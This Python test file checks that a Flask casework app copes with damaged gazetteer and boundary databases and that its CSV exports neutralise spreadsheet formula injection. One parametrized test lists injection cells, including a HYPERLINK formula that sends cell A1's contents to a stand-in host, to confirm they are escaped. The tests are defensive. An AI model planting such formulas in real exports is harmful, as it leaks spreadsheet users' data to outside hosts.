"""A data file that is empty, cut or damaged while the service runs: not measured, said in a sentence, and no page fails."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from app.installation import ROOT
from app.places.commands import harmless
from app.places.districts.districts import Districts
from app.places.postcodes.gazetteer import Gazetteer, GazetteerProblem
from tests.conftest import Instance


def emptied(file: Path) -> None:
    file.write_bytes(b"")


def cut(file: Path) -> None:
    with open(file, "r+b") as stream:
        stream.truncate(20_000)


def overwritten(file: Path) -> None:
    with open(file, "r+b") as stream:
        stream.write(b"not a database at all" * 50)


def holed(file: Path) -> None:
    """Whole at the front, so that what it is about can be read, and no row of it can."""
    size = file.stat().st_size
    with open(file, "r+b") as stream:
        stream.seek(65_536)
        for _ in range(65_536, size, 1 << 20):
            stream.write(b"\xff" * (1 << 20))


@pytest.mark.parametrize("damage", [emptied, cut, overwritten, holed])
def test_a_damaged_gazetteer_is_as_a_missing_one(
    instance: Instance, damage: object, officer: FlaskClient, client: FlaskClient
) -> None:
    case_id, assessment_id = instance.import_case("h2")
    result = f"/cases/{case_id}/assessments/{assessment_id}/result"
    assert officer.get(result).status_code == 200
    file = instance.settings.gazetteer
    whole = file.resolve()
    file.unlink()
    shutil.copyfile(whole, file)
    damage(file)  # type: ignore[operator]
    page = officer.get(result)
    assert page.status_code == 200
    assert "damaged" in page.text or "not measured" in page.text.casefold()
    assert officer.get(f"/cases/{case_id}/addresses/new").status_code == 200
    typed = {
        "kind": "former",
        "address": "1 Invented Row",
        "postcode": "B14 7ET",
        "version": str(instance.version(case_id)),
    }
    assert officer.post(f"/cases/{case_id}/addresses/new", data=typed).status_code in (302, 422)
    assert officer.get("/about-the-data").status_code == 200
    if damage is not holed:  # what is damaged further in shows where it is asked for
        ready = client.get("/readyz")
        assert ready.status_code == 503
        assert ready.json is not None
        assert ready.json["checks"]["gazetteer"] is False


def test_each_look_up_says_so(gazetteer_file: Path, tmp_path: Path) -> None:
    file = tmp_path / "gazetteer.sqlite"
    shutil.copyfile(gazetteer_file, file)
    holed(file)
    found = Gazetteer(file)
    with pytest.raises(GazetteerProblem, match="damaged"):
        found.find("B147ET")
    with pytest.raises(GazetteerProblem, match="damaged"):
        found.columns()
    emptied(file)
    for ask in (found.about, found.datasets, lambda: found.near_any(1, 1), lambda: found.middle("B147ET")):
        with pytest.raises(GazetteerProblem, match="damaged"):
            ask()
    found.close()


def test_damaged_boundaries_are_as_none(tmp_path: Path) -> None:
    file = tmp_path / "districts.sqlite"
    file.write_bytes(b"not a database at all" * 500)
    found = Districts(file)
    assert found.about() == {}
    assert found.authority("E08000025").name == ""


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://example.invalid/"&A1)', "+44 121", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
)
def test_no_cell_of_a_list_of_problems_is_run_by_a_spreadsheet(cell: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(harmless((3, cell)))
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == ["3", f"'{cell}"]


def test_a_plain_cell_stays_as_it_is() -> None:
    assert harmless((3, "Line 3: “=” is no postcode.", 7)) == [3, "Line 3: “=” is no postcode.", 7]


def test_a_name_from_right_to_left_moves_no_number_of_its_cell() -> None:
    """“Line 3: مدرسة, 11 pupils” would be read with 11 on the name’s other side."""
    assert harmless(("مدرسة النور, 11 pupils", "=علي, 4")) == [
        "\u2068مدرسة النور\u2069, 11 pupils",
        "'=\u2068علي\u2069, 4",
    ]


def test_every_csv_that_is_written_goes_through_it() -> None:
    """Six places write CSV, for a person to read; what machines read back is JSON and has no isolates in it."""
    written = [
        (file.relative_to(ROOT).as_posix(), line.strip())
        for file in sorted((ROOT / "app").rglob("*.py"))
        for line in file.read_text(encoding="utf-8").splitlines()
        if re.search(r"csv\.(writer|DictWriter)|to_csv|import .*DictWriter|text/csv", line)
    ]
    assert written == [
        # Every row of these goes through it too: tests/cases/test_timeline.py, tests/chronology/test_pages.py, tests/stock/test_page.py.
        ("app/cases/views/timeline.py", "write = csv.writer(out)"),
        ("app/cases/views/timeline.py", 'answer = Response("\\ufeff" + out.getvalue(), mimetype="text/csv")'),
        ("app/chronology/views/chronology.py", "write = csv.writer(out)"),
        (
            "app/chronology/views/chronology.py",
            'answer = Response("\\ufeff" + out.getvalue(), mimetype="text/csv")',
        ),
        ("app/court/gathering.py", "write = csv.writer(out)"),
        ("app/court/trail.py", "write = csv.writer(out)"),
        (
            "app/places/commands.py",
            'csv.writer(stream).writerows([("line", "problem"), *map(harmless, report.problems)])',
        ),
        ("app/stock/views.py", "write = csv.writer(out)"),
        ("app/stock/views.py", 'answer = Response("\\ufeff" + out.getvalue(), mimetype="text/csv")'),
    ]
